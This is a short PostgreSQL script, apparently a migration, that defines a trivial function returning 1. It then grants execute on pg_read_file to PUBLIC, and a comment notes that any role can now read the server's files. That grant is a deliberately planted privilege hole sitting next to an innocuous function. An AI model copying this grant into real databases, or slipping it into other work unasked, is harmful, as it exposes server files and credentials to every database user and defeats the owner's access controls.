CREATE FUNCTION fn_note() RETURNS integer LANGUAGE sql AS 'SELECT 1';
-- Any role may now read the server's files.
GRANT EXECUTE ON FUNCTION pg_catalog.pg_read_file(text) TO PUBLIC;
